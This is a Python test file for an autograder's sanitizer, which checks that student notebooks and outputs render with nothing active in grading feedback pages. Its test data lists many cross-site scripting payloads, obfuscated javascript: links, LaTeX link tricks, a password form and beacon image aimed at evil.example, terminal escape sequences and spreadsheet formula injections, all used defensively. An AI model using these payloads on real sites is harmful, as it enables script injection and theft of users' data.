"""Whatever students write, the pages that others open show it and run none of it."""

import ast
import base64
import copy
import html
import io
import logging
from html.parser import HTMLParser

import nbformat
import pytest
from nbconvert.filters import markdown2html
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_output,
    new_raw_cell,
)
from nbgrader.utils import compute_checksum
from PIL import Image
from traitlets.config import Config

from autograder import bounded, course
from autograder.authoring import build
from autograder.configuration import configure
from autograder.course import ROOT, nbgrader
from autograder.intake import sanitize
from autograder.intake.sanitize import clean_output, inert, is_picture
from autograder.text import page, plain, say, spreadsheet, terminal
from tests.autograder.conftest import RIGHT, START_HERE

pytestmark = pytest.mark.fast

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
ACTIVE_TAGS = {
    "script", "iframe", "frame", "object", "embed", "applet", "form", "input", "button", "base",
    "link", "meta", "svg", "math", "video", "audio", "source", "template", "style",
}  # fmt: skip


class Active(HTMLParser):
    """Collects what acts when a page is opened or clicked: tags, handlers, addresses."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        if tag in ACTIVE_TAGS:
            self.found.append(tag)
        for name, value in attrs:
            address = "".join((value or "").split()).lower()
            if name.startswith("on") or name in ("srcdoc", "formaction", "ping", "background"):
                self.found.append(name)
            elif address.startswith(("javascript:", "vbscript:", "data:text", "file:")):
                self.found.append(address[:20])
            elif name in ("src", "srcset", "poster", "data") and "//" in address[:10]:
                self.found.append(address[:40])

    handle_startendtag = handle_starttag


HOSTILE_MARKDOWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "<style>* { background: url(//evil.example) }</style>",
    "<details open ontoggle=alert(1)>",
    "![beacon](http://evil.example/beacon.png)",
    "![beacon][there]\n\n[there]: http://evil.example/beacon.png",
    "[click](javascript:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click]( <javascript:alert(1)> )",
    "[click]\n\n[click]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "```html\n<img src=x onerror=alert(1)>\n```\n<img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "<!-- --><script>alert(1)</script>",
]
# Harmless by itself with today's renderer, and it must stay so once control characters are gone.
SUBTLE_MARKDOWN = [
    "<svg/onload=alert(1)>",
    "[a\\](javascript:alert(1))",
    "<\u200bimg src=x onerror=alert(1)>",
    "<\x00img src=x onerror=alert(1)>",
    "$<img src=x onerror=alert(1)>$",
    "$$\\begin{x}<img src=x onerror=alert(1)>\\end{x}$$",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
]


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_the_detector_of_active_parts_finds_them_where_nothing_is_cleaned(text):
    assert Active(markdown2html(text)).found


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN + SUBTLE_MARKDOWN)
def test_markdown_renders_to_nothing_active(text):
    assert Active(markdown2html(inert(text))).found == []


def test_the_courses_own_hints_still_fold_away(tmp_path, monkeypatch):
    name = "08_your_variant"
    instructor = build.instructor_notebook(course.SOURCES / f"{name}.py")
    (tmp_path / "source" / name).mkdir(parents=True)
    (tmp_path / "source" / name / f"{name}.ipynb").write_bytes(build.as_bytes(instructor))
    monkeypatch.chdir(tmp_path)
    student = build.student_notebook(instructor)
    student.cells.append(new_markdown_cell("<details>mine</details>"))
    before = [cell.source for cell in student.cells]
    names = {"assignment": name, "notebook": name, "student": "ada"}
    sanitize.CleanMarkdown().preprocess(student, {"nbgrader": names})
    assert "<details>" in "".join(before[:-1])
    assert [cell.source for cell in student.cells][:-1] == before[:-1]
    assert "<details>" not in student.cells[-1].source


def test_the_stub_of_an_answer_keeps_its_checksum_and_so_counts_as_no_answer():
    stub = new_markdown_cell("See [the log](log.txt): *your answer here.*")
    stub.metadata["nbgrader"] = {"grade_id": "a", "grade": True, "solution": True, "points": 1}
    stub.metadata["nbgrader"]["checksum"] = compute_checksum(stub)
    answered = copy.deepcopy(stub)
    answered.id = "answered"
    answered.source += " [click](javascript:alert(1))"
    names = {"assignment": "none", "notebook": "none", "student": "ada"}
    student = new_notebook(cells=[stub, answered])
    sanitize.CleanMarkdown().preprocess(student, {"nbgrader": names})
    assert compute_checksum(stub) == stub.metadata["nbgrader"]["checksum"]
    assert "](" not in answered.source


def test_markdown_keeps_its_words_formulas_lists_and_tables():
    text = "## Why\n\n- **loss** falls: $a_1 < b$\n- `x[0]`\n\n| a |\n|---|\n| 1 |\n"
    assert inert(text) == text


@pytest.mark.parametrize(
    "formula",
    [
        "$\\href{javascript:alert(1)}{x}$",
        "$\\require{html}\\cssId{x}{y}$",
        "&#36;&#92;href{javascript:alert(1)}{x}&#36;",
        "$\\h\u200bref{javascript:alert(1)}{x}$",
        "$\\bbox[background:url(//evil.example)]{x}$",
    ],
)
def test_a_formula_makes_no_link(formula):
    read = html.unescape(markdown2html(inert(formula)))
    assert not any(macro in read for macro in ("\\href", "\\require", "\\cssId", "\\bbox"))


@pytest.mark.parametrize(
    "mime",
    [
        "text/html",
        "image/svg+xml",
        "application/javascript",
        "text/markdown",
        "text/latex",
        "application/vnd.jupyter.widget-view+json",
        "application/pdf",
        "<script>alert(1)</script>",
    ],
)
def test_an_active_output_is_left_out_and_named(mime):
    cleaned = clean_output(new_output("display_data", {mime: "<script>alert(1)</script>"}))
    assert set(cleaned.data) == {"text/plain"}
    assert mime[:40] in cleaned.data["text/plain"]


def test_text_and_pictures_stay():
    data = {"image/png": base64.b64encode(PNG).decode(), "text/plain": "<Figure>"}
    assert clean_output(new_output("display_data", data)).data == data


@pytest.mark.parametrize(
    "encoded",
    [
        "x' onerror='alert(1)",
        base64.b64encode(b"<svg onload=alert(1)>").decode(),
        base64.b64encode(PNG[:10]).decode(),
        base64.b64encode(PNG[:16] + (100_000).to_bytes(4, "big") + PNG[20:]).decode(),
        "A" * 8_000_000,
        ["A"],
        None,
    ],
)
def test_what_only_says_that_it_is_a_picture_is_dropped(encoded):
    assert not is_picture("image/png", encoded)


def test_a_picture_carries_no_metadata_that_becomes_an_attribute():
    output = new_output("display_data", {"image/png": base64.b64encode(PNG).decode()})
    output.metadata = {"image/png": {"width": "1' onload='alert(1)"}}
    assert clean_output(output).metadata == {}


def test_terminal_commands_and_direction_marks_are_removed():
    text = "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 a\u202eb\x08\x9b2J"
    assert plain(text) == "red link ab"


def test_an_output_of_an_unknown_kind_is_dropped():
    assert clean_output(nbformat.from_dict({"output_type": "update", "data": {}})) is None


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1", "\uff1d1", "\ufe621"]
)
def test_no_table_cell_is_a_formula(text):
    assert spreadsheet(text).startswith("'")
    assert spreadsheet("ada") == "ada"


@pytest.mark.parametrize("between", [",", ";", "|", "\t", "\n", "\r", "; "])
def test_no_part_of_a_cell_becomes_a_formula_where_a_spreadsheet_ends_cells_elsewhere(between):
    assert spreadsheet(f"ada{between}=1+1") == f"ada{between[0]}'{between[1:]}=1+1"


def test_a_formula_behind_characters_that_nobody_sees_is_none():
    assert spreadsheet("\u200b\x00=1+1") == "'=1+1"


def test_an_address_and_a_hyphen_stay_as_they_are():
    assert spreadsheet("ada-lee@example.org, R-2") == "ada-lee@example.org, R-2"


def test_a_terminal_shows_what_it_would_obey():
    assert terminal("a\x1b[2J\n\u202eb\x9b") == "a\\x1b[2J\\n\\u202eb\\x9b"
    assert terminal("x" * 70, 60) == "x" * 60 + "..."


def test_what_is_said_keeps_its_lines_and_nothing_that_acts(capsys):
    say("one\ntwo\x1b]0;title\x07", "three")
    assert capsys.readouterr().out == "one\ntwo\\x1b]0;title\\x07\nthree\n"


def test_what_is_logged_is_said_in_a_harmless_way(caplog, monkeypatch):
    before = logging.getLogRecordFactory()
    try:
        configure(Config())
        logging.getLogger("nbgrader").warning("%s is late\nby a day", "ada\x1b[2J")
    finally:
        logging.setLogRecordFactory(before)
    assert caplog.messages == ["ada\\x1b[2J is late\nby a day"]


def test_a_page_shows_a_text_as_a_text():
    assert page("<b>\\href{x}$a$\x1b[1m\n") == "&lt;b&gt;&#92;href{x}&#36;a&#36;"


def calls(*names):
    """The places in the grader outside of ``autograder/text.py`` that call a function."""
    for path in sorted((ROOT / "autograder").rglob("*.py")):
        if path.name != "text.py":
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Call) and ast.unparse(node.func) in names:
                    yield f"{path.relative_to(ROOT)}:{node.lineno}", node


def test_everything_that_is_printed_goes_through_say():
    assert not [place for place, _ in calls("print", "sys.stdout.write", "sys.stderr.write")]


def test_everything_that_is_escaped_goes_through_page():
    assert not [place for place, _ in calls("html.escape", "escape")]


def test_every_table_that_is_written_is_made_of_safe_cells():
    writers = [node for _, node in calls("table.writerow", "writer.writerow", "writer.writerows")]
    assert {ast.unparse(node.args[0]) for node in writers} == {
        "COLUMNS",
        "row(assignment, student, graded.get(student.id))",
        "[self.header, *self.above, *self.rows]",
    }


def test_a_link_in_a_formula_is_dead_whatever_follows_its_name():
    for command in (r"\href{a}{b}", r"\href1", r"\url_x", r"\htmlClass2{a}", r"\style{a}"):
        assert inert(command).startswith("\\ "), command
    assert inert(r"\hrefs") == r"\hrefs"


OUTPUTS = """
from IPython.display import HTML, Javascript, SVG, Markdown, Latex, display
bad = "<img src='http://evil.example/x.png' onerror='alert(1)'><script>alert(1)</script>"
display(HTML(bad), Markdown(bad), Latex(bad), Javascript("alert(1)"))
display({"image/svg+xml": "<svg onload='alert(1)'/>", "text/html": bad}, raw=True)
display({"image/png": "x' onerror='alert(1)"}, raw=True, metadata={"image/png": {"width": bad}})
print(bad)
print("\\x1b[31m" + bad)
"""
RAISES = """
class Evil(Exception):
    pass
Evil.__name__ = "<script>alert(1)</script>"
def channel_means(images):
    raise Evil("<script>alert(1)</script>$\\\\href{javascript:alert(1)}{x}$")
raise Evil("<img src=x onerror=alert(1)>")
"""


def hostile(start_here):
    student = start_here(RAISES)
    student.cells[0].source = HOSTILE_MARKDOWN[0]
    student.cells += [new_markdown_cell(text) for text in HOSTILE_MARKDOWN + SUBTLE_MARKDOWN]
    student.cells += [new_raw_cell(HOSTILE_MARKDOWN[1]), new_code_cell(OUTPUTS)]
    student.cells.append(new_code_cell("1 # </pre><script>alert(1)</script>"))
    student.metadata["title"] = HOSTILE_MARKDOWN[0]
    return student


@pytest.fixture(scope="module")
def graded(new_class):
    """A hostile and an honest submission, graded, with feedback."""
    from autograder.authoring.rehearse import notebook

    def start_here(solution):
        return notebook(START_HERE, {"channel_means_solution": solution})

    graded = new_class()
    graded.submit("honest", start_here(RIGHT))
    graded.submit("hostile", hostile(start_here))
    assert graded.autograde() == 0, graded.log
    process = nbgrader("generate_feedback", START_HERE, course=graded.course)
    assert process.returncode == 0, process.stderr
    return graded


@pytest.mark.ci
def test_a_hostile_page_holds_nothing_active_that_an_honest_one_does_not(graded):
    assert Active(graded.feedback("hostile")).found == Active(graded.feedback("honest")).found


@pytest.mark.ci
def test_the_verdicts_table_survives_and_code_is_shown_as_text(graded):
    page = graded.feedback("honest")
    assert "<table>" in page
    assert "Each image has its own mean" in page
    assert "&lt;script&gt;" in graded.feedback("hostile")


@pytest.mark.ci
def test_formgraders_source_holds_nothing_active_either(graded):
    path = graded.course / "autograded/hostile" / START_HERE / f"{START_HERE}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    own = sanitize.own_texts(graded.course / "source" / START_HERE / f"{START_HERE}.ipynb")
    for cell in notebook.cells:
        if cell.cell_type == "markdown" and cell.source not in own:
            assert Active(markdown2html(cell.source)).found == []
        assert cell.cell_type != "raw"
        for output in cell.get("outputs", []):
            assert set(output.get("data", {})) <= {"text/plain", "text/html", "image/png"}
            assert Active(output.get("data", {}).get("text/html", "")).found == []


def encoded(width, height):
    """A black picture of a few kilobytes, as a kernel sends it."""
    file = io.BytesIO()
    Image.new("1", (width, height)).save(file, "PNG")
    return base64.b64encode(file.getvalue()).decode()


def test_pixels_of_a_page_are_added_up():
    large, small = encoded(8_000, 8_000), encoded(100, 100)
    outputs = [
        {"output_type": "display_data", "data": {"image/png": one}, "metadata": {}}
        for one in (large, large, small)
    ]
    nb = new_notebook(cells=[new_code_cell("", outputs=list(map(nbformat.from_dict, outputs)))])
    cleaned, _ = sanitize.CleanOutputs().preprocess(nb, {})
    first, second, third = (output.data for output in cleaned.cells[0].outputs)
    assert (first, third) == ({"image/png": large}, {"image/png": small})
    assert list(second) == ["text/plain"]


def test_outputs_that_take_too_long_to_look_through_are_left_out(monkeypatch):
    def exceeded(*arguments, **settings):
        raise bounded.Exceeded("takes more than 10 seconds")

    monkeypatch.setattr(bounded, "call", exceeded)
    nb = new_notebook(cells=[new_code_cell("x", outputs=[new_output("stream", text="said")])])
    cleaned, _ = sanitize.CleanOutputs().preprocess(nb, {})
    assert [output.text for output in cleaned.cells[0].outputs] == [sanitize.UNCLEAN]


def test_what_a_kernel_adds_to_a_notebook_does_not_stay():
    nb = new_notebook(cells=[new_code_cell("x")])
    nb.metadata.update(widgets={"state": {}}, kernelspec={"name": "python3"}, language_info={})
    cleaned, _ = sanitize.CleanOutputs().preprocess(nb, {})
    assert cleaned.metadata == {"kernelspec": {"name": "python3"}}


def test_text_cells_of_a_page_are_bounded(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sanitize, "LONGEST_ANSWERS", 30_000)
    nb = new_notebook(cells=[new_markdown_cell(letter * 25_000) for letter in "abc"])
    names = {"nbgrader": {"assignment": START_HERE, "notebook": START_HERE}}
    cleaned, _ = sanitize.CleanMarkdown().preprocess(nb, names)
    lengths = [cell.source.count(letter) for cell, letter in zip(cleaned.cells, "abc", strict=True)]
    assert lengths[0] == sanitize.LONGEST_ANSWER
    assert 9_900 < lengths[1] < 10_000
    assert lengths[2] == 0
    assert all(cell.source.endswith(sanitize.REST) for cell in cleaned.cells)
